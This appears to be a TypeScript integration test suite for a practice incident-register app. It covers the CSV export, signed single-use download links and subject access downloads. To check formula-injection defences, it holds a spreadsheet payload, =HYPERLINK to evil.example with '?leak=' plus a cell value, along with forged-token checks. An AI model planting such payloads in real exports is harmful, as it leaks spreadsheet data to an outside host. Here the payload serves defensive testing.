import { randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEvidencePack } from '../../src/app/evidencePack.ts';
import { parsePeriod, REGISTER_COLUMNS } from '../../src/app/registerExport.ts';
import { loadConfig } from '../../src/config.ts';
import type { Incident } from '../../src/domain/incident.ts';
import { createApp, type App } from '../../src/server.ts';
import { createAzureStores } from '../../src/store/azure/index.ts';
import type { Stores } from '../../src/store/ports.ts';
import { startAzuriteProcess } from '../../src/store/azuriteProcess.ts';
import type { EmbeddedAzurite } from '../../src/store/embeddedAzurite.ts';
import { uniqueTablePrefix } from '../support/azurite.ts';
import { unzip } from '../support/unzip.ts';

/**
 * "export register": a CSV that Excel opens as data, never as formulas, through a checked link.
 * Over the real server, so Azurite runs in its own process (as in test/http/server.test.ts).
 */
let dataDir: string;
let azurite: EmbeddedAzurite;
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
let stores: Stores;
let app: App;
let base: string;
let practiceId: string;
let practiceName: string;
const clock = new Date('2026-11-30T12:00:00.000Z');
const manager = { aadObjectId: 'aad-manager', name: 'Mo Manager' };
const staff = { aadObjectId: 'aad-rita', name: 'Rita Reception' };

beforeAll(async () => {
  const config = loadConfig({ PORT: '0', POSTWATCH_MANAGERS: manager.aadObjectId, POSTWATCH_PRACTICE_NAME: 'Riverside Surgery' });
  if (!config.ok) throw new Error(config.error.join('; '));
  practiceId = config.value.practices.practices[0]!.id;
  practiceName = config.value.practices.practices[0]!.name;
  dataDir = await mkdtemp(join(tmpdir(), 'postwatch-export-'));
  azurite = await startAzuriteProcess({ location: dataDir });
  stores = await createAzureStores(azurite.connectionString, { tablePrefix: uniqueTablePrefix(), now: () => clock });
  app = createApp({ config: config.value, stores, log: pino({ level: 'silent' }), now: () => clock });
  base = (await app.listen(0, '127.0.0.1')).url;
});

afterAll(async () => {
  await app?.close();
  await azurite?.close();
  await rm(dataDir, { recursive: true, force: true });
});

async function incident(reportedAt: string, outcome: string, decided = true): Promise<Incident> {
  const { incident } = await stores.incidents.submit(
    {
      practiceId,
      status: 'reported',
      reportedAt,
      reporter: staff,
      draftId: randomUUID(),
      facts: {
        where: { platform: 'facebook', seenAt: reportedAt, seenDate: '2026-06-01', seenTime: '09:00', authorName: '@Patient Zero', authorRelationship: 'patient' },
        what: { postText: `${HOSTILE} Mrs Smith in bed 3`, categories: ['personal-attack', 'names-staff'], namedParties: ['colleagues'], namedColleagues: 'Dr Jones' },
        risk: { atRisk: false },
        evidence: { screenshots: [], noScreenshotReason: 'gone' },
      },
    },
    staff,
  );
  const decidedAt = new Date(Date.parse(reportedAt) + 2 * 3_600_000).toISOString();
  if (!decided) return incident;
  return stores.incidents.update(
    {
      ...incident,
      status: 'closed',
      handling: {
        version: 1,
        grading: { severity: 'high', decisionTargetHours: 4, actions: [{ id: 'report-to-platform', title: 'Report it to the platform' }] } as never,
        decision: { kind: 'actions', by: manager, at: decidedAt, actions: ['report-to-platform'] },
        closure: { outcome, closedBy: manager, closedAt: decidedAt },
      },
    },
    { actor: manager, action: 'incident.close', summary: 'Closed.' },
  );
}

describe('export register', () => {
  it('reads the period people type, in UK days', () => {
    expect(parsePeriod('2026', clock)).toEqual({ ok: true, value: { from: '2026-01-01T00:00:00.000Z', to: '2027-01-01T00:00:00.000Z', label: '2026' } });
    // 1 April is in British Summer Time: the day starts at 23:00 UTC the evening before.
    expect(parsePeriod('01/04/2026 to 31/03/2027', clock)).toMatchObject({ ok: true, value: { from: '2026-03-31T23:00:00.000Z', to: '2027-03-31T23:00:00.000Z' } });
    expect(parsePeriod('2026-01-01 to 2026-01-31', clock)).toMatchObject({ ok: true, value: { from: '2026-01-01T00:00:00.000Z', to: '2026-02-01T00:00:00.000Z' } });
    expect(parsePeriod('', clock)).toMatchObject({ ok: true, value: { from: '2025-11-30T12:00:00.000Z', label: 'last 12 months' } });
    for (const bad of ['31/02/2026 to 01/03/2026', 'yesterday', '2026-05-01 to 2026-04-01', '=1+1']) expect(parsePeriod(bad, clock).ok, bad).toBe(false);
  });

  it('gives a decider a CSV through a signed link: RFC 4180, BOM, UK dates, formulas as data, no post text or names', async () => {
    const hostile = await incident('2026-06-01T09:00:00.000Z', HOSTILE);
    const plain = await incident('2026-07-01T09:00:00.000Z', '-1+1 @SUM(A1) \ttab\rreturn, "quoted"');
    await incident('2025-01-01T09:00:00.000Z', 'Outside the period');

    const request = await app.services.registerExport.request(practice(), manager, '2026');
    expect(request.kind).toBe('allowed');
    if (request.kind !== 'allowed') return;
    const link = app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, issuedToName: manager.name, kind: 'register', from: request.period.from, to: request.period.to }, clock);
    expect(link.url).toContain('/export?t=');
    const response = await fetch(link.url.replace(/^https?:\/\/[^/]+/, base));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.split('\r\n')[0]).toBe(REGISTER_COLUMNS.join(','));
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"');

    const rows = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual([...REGISTER_COLUMNS]);
    expect(rows.map((r) => r[0])).toEqual(['Reference', hostile.reference, plain.reference]);
    const byColumn = (row: string[]) => Object.fromEntries(REGISTER_COLUMNS.map((c, i) => [c, row[i]]));
    expect(byColumn(rows[1]!)).toEqual({
      Reference: hostile.reference,
      Reported: '01/06/2026 10:00',
      Platform: 'Facebook',
      Categories: 'Personal attack or insult; Names or identifies staff',
      Severity: 'high',
      Status: 'Closed',
      Decision: 'Actions chosen: Report it to the platform',
      Decided: '01/06/2026 12:00',
      'Hours to decision': '2.0',
      'Decision within target': 'Yes',
      Closed: '01/06/2026 12:00',
      'Closure outcome': `'${HOSTILE}`,
    });
    // Every cell that would start a formula starts with ' (the text is otherwise kept as written).
    expect(byColumn(rows[2]!)['Closure outcome']).toBe('\'-1+1 @SUM(A1) \ttab\rreturn, "quoted"');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).not.toMatch(/Mrs Smith|Patient Zero|Dr Jones|Rita|Mo Manager/);

    const audit = await stores.practices.practiceAudit(practiceId);
    expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['register-export.issued', 'register-export.downloaded']));
    expect(audit.find((a) => a.action === 'register-export.downloaded')?.summary).toMatch(/2 incidents/);
  });

  it('refuses staff, and a link that was tampered with, of another kind, or issued to someone no longer a decider', async () => {
    expect(await app.services.registerExport.request(practice(), staff, '2026')).toEqual({ kind: 'denied' });
    const forStaff = app.services.links.issue({ practiceId, reference: '', issuedTo: staff.aadObjectId, kind: 'register', from: '2026-01-01T00:00:00.000Z', to: '2027-01-01T00:00:00.000Z' }, clock);
    const refused = await fetch(forStaff.url.replace(/^https?:\/\/[^/]+/, base));
    expect(refused.status).toBe(403);
    expect(await refused.text()).not.toMatch(/PW-/);
    const good = app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, kind: 'register', from: '2026-01-01T00:00:00.000Z', to: '2027-01-01T00:00:00.000Z' }, clock);
    const token = new URL(good.url).searchParams.get('t')!;
    expect((await fetch(`${base}/evidence?t=${token}`)).status).toBe(404);
    const [payload, signature] = token.split('.');
    const widened = Buffer.from(JSON.stringify({ ...JSON.parse(Buffer.from(payload!, 'base64url').toString()), from: '2000-01-01T00:00:00.000Z' })).toString('base64url');
    expect((await fetch(`${base}/export?t=${widened}.${signature}`)).status).toBe(404);
    const pack = app.services.links.issue({ practiceId, reference: 'PW-2026-0001', issuedTo: manager.aadObjectId }, clock);
    expect((await fetch(`${base}/export?t=${new URL(pack.url).searchParams.get('t')}`)).status).toBe(404);
  });

  it('the evidence pack summary names the practice by its name', async () => {
    const one = await incident('2026-08-01T09:00:00.000Z', 'Done', false);
    const pack = await buildEvidencePack(stores, practiceId, one.reference, { now: () => clock, practiceName });
    const html = unzip(pack.bytes).get('summary.html')!.toString('utf8');
    expect(html).toContain('Riverside Surgery ·');
    expect(html).not.toContain(`Practice ${practiceId}`);
  });
});


describe('the subject access link', () => {
  it('downloads the pack once, for the manager it was issued to', async () => {
    const recorded = await app.services.subjectAccess.request(practice(), manager, 'Rita Reception');
    if (recorded.kind !== 'recorded') throw new Error('not recorded');
    const link = app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, issuedToName: manager.name, kind: 'subject-access', requestId: recorded.request.id, nonce: recorded.nonce }, clock);
    const url = link.url.replace(/^https?:\/\/[^/]+/, base);
    const token = new URL(url).searchParams.get('t')!;
    expect((await fetch(`${base}/export?t=${token}`)).status).toBe(404);
    const first = await fetch(url);
    expect(first.status).toBe(200);
    const pack = (await first.json()) as { request: { id: string }; incidents: Array<{ appearsAs: string[]; items: Array<{ marking: string; value: string }> }> };
    expect(pack.request.id).toBe(recorded.request.id);
    expect(pack.incidents.length).toBeGreaterThan(0);
    expect(pack.incidents.every((i) => i.appearsAs.includes('reporter'))).toBe(true);
    expect(pack.incidents.flatMap((i) => i.items).filter((i) => i.value === 'Mo Manager').every((i) => i.marking === 'third-party')).toBe(true);
    const again = await fetch(url);
    expect(again.status).toBe(410);
  });
});

describe('every signed-link download answers in one shape', () => {
  const local = (url: string) => url.replace(/^https?:\/\/[^/]+/, base);

  it('sends each file as an attachment, never cached, its length exact; only the evidence pack carries its SHA-256', async () => {
    const one = await incident('2026-09-01T09:00:00.000Z', 'Shape', false);
    const recorded = await app.services.subjectAccess.request(practice(), manager, 'Rita Reception');
    if (recorded.kind !== 'recorded') throw new Error('not recorded');
    const links = {
      evidence: app.services.links.issue({ practiceId, reference: one.reference, issuedTo: manager.aadObjectId, issuedToName: manager.name }, clock),
      register: app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, kind: 'register', from: '2026-01-01T00:00:00.000Z', to: '2027-01-01T00:00:00.000Z' }, clock),
      sar: app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, kind: 'subject-access', requestId: recorded.request.id, nonce: recorded.nonce }, clock),
    };
    const expected = {
      evidence: { type: 'application/zip', name: `${one.reference}-evidence.zip`, sha: true },
      register: { type: 'text/csv; charset=utf-8', name: `register-${practiceId}-2026-01-01-to-2027-01-01.csv`, sha: false },
      sar: { type: 'application/json; charset=utf-8', name: `${recorded.request.id}.json`, sha: false },
    };
    for (const [kind, link] of Object.entries(links) as Array<[keyof typeof links, { url: string }]>) {
      const response = await fetch(local(link.url));
      expect(response.status, kind).toBe(200);
      const bytes = Buffer.from(await response.arrayBuffer());
      expect(response.headers.get('content-type'), kind).toBe(expected[kind].type);
      expect(response.headers.get('content-disposition'), kind).toBe(`attachment; filename="${expected[kind].name}"`);
      expect(response.headers.get('content-length'), kind).toBe(String(bytes.length));
      expect(response.headers.get('cache-control'), kind).toBe('no-store');
      expect(response.headers.get('x-content-sha256') !== null, kind).toBe(expected[kind].sha);
      // Used once: the second answer is 410 with a sentence, and none of the file.
      const again = await fetch(local(link.url));
      expect(again.status, kind).toBe(410);
      const body = (await again.json()) as { error: string };
      expect(body.error, kind).toMatch(/already been used/);
      expect(JSON.stringify(body), kind).not.toMatch(/PW-\d|SAR-|Rita/);
    }
  });

  it('answers 404 with the same sentence for a link that names no practice here or lacks what its kind needs, and reads nothing for it', async () => {
    const auditBefore = (await stores.practices.practiceAudit(practiceId)).length;
    const elsewhere = app.services.links.issue({ practiceId: 'not-configured', reference: '', issuedTo: manager.aadObjectId, kind: 'register', from: '2026-01-01T00:00:00.000Z', to: '2027-01-01T00:00:00.000Z' }, clock);
    const noPeriod = app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, kind: 'register' }, clock);
    const noRequest = app.services.links.issue({ practiceId, reference: '', issuedTo: manager.aadObjectId, kind: 'subject-access' }, clock);
    for (const [url, says] of [
      [elsewhere.url, 'export register'],
      [noPeriod.url, 'export register'],
      [noRequest.url, 'subject access'],
    ] as const) {
      const response = await fetch(local(url));
      expect(response.status, url).toBe(404);
      expect(response.headers.get('content-disposition')).toBeNull();
      expect(((await response.json()) as { error: string }).error).toBe(`This link is not valid or has expired. Ask for a new one with "${says}".`);
    }
    // Nothing was downloaded or audited for them, and the register link without a period was not used up.
    expect((await stores.practices.practiceAudit(practiceId)).length).toBe(auditBefore);
    const noPeriodId = (JSON.parse(Buffer.from(new URL(noPeriod.url).searchParams.get('t')!.split('.')[0]!, 'base64url').toString()) as { id: string }).id;
    expect(await stores.leases.useOnce(`register-link|${noPeriodId}`, new Date(clock.getTime() + 60_000))).toBe(true);
  });
});

function practice() {
  return { id: practiceId, name: practiceName, teamIds: [], staff: [], staffNames: [], managers: [manager.aadObjectId], deputies: [], dataProtectionOfficers: [] };
}
